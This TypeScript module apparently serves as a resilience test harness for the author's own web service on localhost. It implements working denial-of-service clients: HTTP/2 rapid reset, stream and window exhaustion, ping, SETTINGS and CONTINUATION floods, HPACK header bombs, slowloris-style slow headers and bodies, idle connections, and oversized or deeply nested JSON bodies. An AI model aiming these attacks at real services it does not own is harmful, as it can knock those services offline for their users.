// Hostile clients: each attack runs until it is told to stop, opens a new connection where the service closes one, and counts what it did.

import type { TLSSocket } from "node:tls";
import {
  FrameConnection,
  frames,
  header,
  type RawRequest,
  remembered,
  repeated,
  requestBlock,
  settingIds,
} from "./http2-frames.ts";
import { openTls } from "./sockets.ts";

export interface Target {
  readonly port: number;
  /** What the attack asks for where it asks for anything. Those with large responses take turns with all of them, the others take the first. */
  readonly requests: readonly [RawRequest, ...RawRequest[]];
  /** Connections at a time. */
  readonly connections: number;
  readonly isOver: () => boolean;
}

/** What an attack did. */
export interface Damage {
  connections: number;
  sent: number;
  answered: number;
  /** Connections that the service ended. */
  ended: number;
}

export type Attack = (target: Target) => Promise<Damage>;

/** Frames in one write: small enough that a connection sees its end before it has sent much more. */
const batch = 100;
/** A connection that has done its part and is not closed is given up after this. */
const nextMilliseconds = 200;

/** Runs `drive` on so many connections at a time, each again and again until the attack is over. */
async function onConnections(
  { port, connections, isOver }: Target,
  drive: (connection: FrameConnection, count: (sent: number) => void) => Promise<void>,
  settings: readonly (readonly [number, number])[] = [],
): Promise<Damage> {
  const damage: Damage = { connections: 0, sent: 0, answered: 0, ended: 0 };
  const worker = async () => {
    while (!isOver()) {
      const connection = await FrameConnection.open(port, settings).catch(() => undefined);
      if (!connection) continue;
      damage.connections += 1;
      let isOurEnd = false;
      const ending = setInterval(() => {
        if (!isOver()) return;
        isOurEnd = true;
        void connection.close();
      }, 20);
      await drive(connection, (sent) => {
        damage.sent += sent;
      });
      clearInterval(ending);
      damage.answered += connection.answered.size;
      if (connection.goAwayCode !== undefined || (connection.isClosed && !isOurEnd)) damage.ended += 1;
      await connection.close();
    }
  };
  await Promise.all(Array.from({ length: connections }, worker));
  return damage;
}

const forever =
  (isOver: () => boolean, makeFrames: (connection: FrameConnection) => Buffer) =>
  async (connection: FrameConnection, count: (sent: number) => void): Promise<void> => {
    while (!isOver() && !connection.isClosed) {
      await connection.send(...Array.from({ length: batch }, () => makeFrames(connection)));
      count(batch);
    }
  };

/** Requests that are canceled in the same breath, as many as a connection survives. */
const rapidReset: Attack = (target) => {
  const block = requestBlock(target.requests[0]);
  const resetsMax = 1_100;
  return onConnections(target, async (connection, count) => {
    for (let sent = 0; sent < resetsMax && !connection.isClosed; sent += batch) {
      const streams = Array.from({ length: batch }, () => connection.nextStream());
      await connection.send(...streams.flatMap((stream) => [frames.headers(stream, block), frames.reset(stream)]));
      count(batch);
    }
    await Promise.race([connection.until(() => connection.goAwayCode !== undefined), Bun.sleep(nextMilliseconds)]);
  });
};

/** As many requests at a time as the service allows on a connection, each replaced as soon as it is answered. */
const manyStreams: Attack = (target) => {
  const block = requestBlock(target.requests[0]);
  const streamsMax = 256;
  const responseBytes = 4_000;
  return onConnections(target, async (connection, count) => {
    let open = 0;
    let answered = 0;
    while (!target.isOver() && !connection.isClosed) {
      open -= connection.answered.size - answered;
      answered = connection.answered.size;
      const free = streamsMax - open;
      open += free;
      count(free);
      await connection.send(
        ...Array.from({ length: free }, () => frames.headers(connection.nextStream(), block)),
        frames.windowUpdate(0, free * responseBytes),
      );
      await connection.until(() => connection.answered.size > answered);
    }
  });
};

const pings: Attack = (target) =>
  onConnections(
    target,
    forever(target.isOver, () => frames.ping()),
  );

/** Each setting of the window concerns every open stream, so many are opened whose answers do not fit into a window of 0. */
const settings: Attack = (target) => {
  const block = requestBlock(target.requests[0]);
  return onConnections(
    target,
    async (connection, count) => {
      await connection.send(...Array.from({ length: 256 }, () => frames.headers(connection.nextStream(), block)));
      let size = 0;
      await forever(target.isOver, () => {
        size = 1 - size;
        return frames.settings(...Array.from({ length: 32 }, () => [settingIds.initialWindowSize, size] as const));
      })(connection, count);
    },
    [[settingIds.initialWindowSize, 0]],
  );
};

/** A header block that never ends. */
const continuations: Attack = (target) =>
  onConnections(target, async (connection, count) => {
    await connection.send(frames.headers(1, requestBlock(target.requests[0]), { isWhole: false }));
    await forever(target.isOver, () => frames.continuation(1, header("x-more", "m".repeat(1_000))))(connection, count);
  });

/** Small header blocks that become large where they are decoded. */
const headerBombs: Attack = (target) => {
  const block = requestBlock(target.requests[0]);
  return onConnections(
    target,
    forever(target.isOver, (connection) =>
      frames.headers(
        connection.nextStream(),
        Buffer.concat([block, remembered("x-bomb", "b".repeat(3_900)), repeated(150)]),
      ),
    ),
  );
};

/** Requests whose answers are never taken: the window stays at 0. */
const closedWindows: Attack = (target) => {
  const block = requestBlock(target.requests[0]);
  return onConnections(
    target,
    async (connection, count) => {
      await connection.send(...Array.from({ length: 256 }, () => frames.headers(connection.nextStream(), block)));
      count(256);
      await connection.closed;
    },
    [[settingIds.initialWindowSize, 0]],
  );
};

/** Runs `drive` on so many TLS connections at a time, each again and again until the attack is over. */
async function onSockets(
  { port, connections, isOver }: Target,
  drive: (socket: TLSSocket, damage: Damage) => Promise<void>,
): Promise<Damage> {
  const damage: Damage = { connections: 0, sent: 0, answered: 0, ended: 0 };
  const worker = async () => {
    while (!isOver()) {
      const socket = await openTls(port, { rejectUnauthorized: false }).catch(() => undefined);
      if (!socket) continue;
      damage.connections += 1;
      socket.on("error", () => undefined);
      socket.on("data", () => undefined);
      await drive(socket, damage);
      if (socket.destroyed) damage.ended += 1;
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: connections }, worker));
  return damage;
}

/** Sends some bytes at a time for as long as the connection lives. */
const slowly =
  (begin: (target: Target) => string, more: string): Attack =>
  (target) =>
    onSockets(target, async (socket, damage) => {
      socket.write(begin(target));
      while (!target.isOver() && !socket.destroyed) {
        socket.write(more);
        damage.sent += 1;
        await Bun.sleep(500);
      }
    });

const headOf = ({ requests: [{ key }] }: Target, method: string, path: string, length?: number): string =>
  [
    `${method} ${path} HTTP/1.1`,
    "Host: localhost",
    `Authorization: Bearer ${key}`,
    ...(length === undefined ? [] : [`Content-Length: ${length}`]),
    "",
  ].join("\r\n");

const slowHeaders = slowly((target) => headOf(target, "GET", target.requests[0].path), "X-More: m\r\n");

const slowBodies = slowly((target) => `${headOf(target, "POST", "/api/snippet", 60_000)}\r\n`, "x");

/** Connections that say nothing. */
const silence: Attack = (target) =>
  onSockets(target, async (socket) => {
    while (!target.isOver() && !socket.destroyed) await Bun.sleep(100);
  });

/** Each connection sends a body and waits for the response. */
const posting =
  (path: string, body: Buffer): Attack =>
  (target) => {
    const { requests } = target;
    let next = 0;
    return onSockets(target, async (socket, damage) => {
      const request = requests[next % requests.length] ?? requests[0];
      next += 1;
      socket.write(`${headOf({ ...target, requests: [request] }, "POST", path, body.length)}\r\n`);
      const answered = new Promise<void>((resolve) => {
        socket.once("data", () => resolve());
        socket.once("close", () => resolve());
      });
      socket.write(body);
      damage.sent += 1;
      await answered;
      if (!socket.destroyed) damage.answered += 1;
    });
  };

/** Bodies of brackets alone. */
const deepJson = posting("/api/snippet", Buffer.alloc(7 * 1024 * 1024, "["));

/** Bodies of almost full size that are refused only when they were parsed. One character makes each text take two bytes for each of them. */
const largeBodies = posting(
  "/api/snippets",
  Buffer.from(
    JSON.stringify({
      snippets: Array(8).fill({
        title: "Large",
        content: { type: "plaintext", content: `${"x".repeat(999_000)}\u4e00` },
        teamId: "00000000-0000-7000-8000-000000000000",
      }),
    }),
  ),
);

/** Connections that do nothing but be made. */
const handshakes: Attack = (target) => onSockets(target, async () => undefined);

export const attacks = {
  rapidReset,
  manyStreams,
  pings,
  settings,
  continuations,
  headerBombs,
  closedWindows,
  handshakes,
  slowHeaders,
  slowBodies,
  silence,
  deepJson,
  largeBodies,
} as const satisfies Record<string, Attack>;
export type AttackName = keyof typeof attacks;
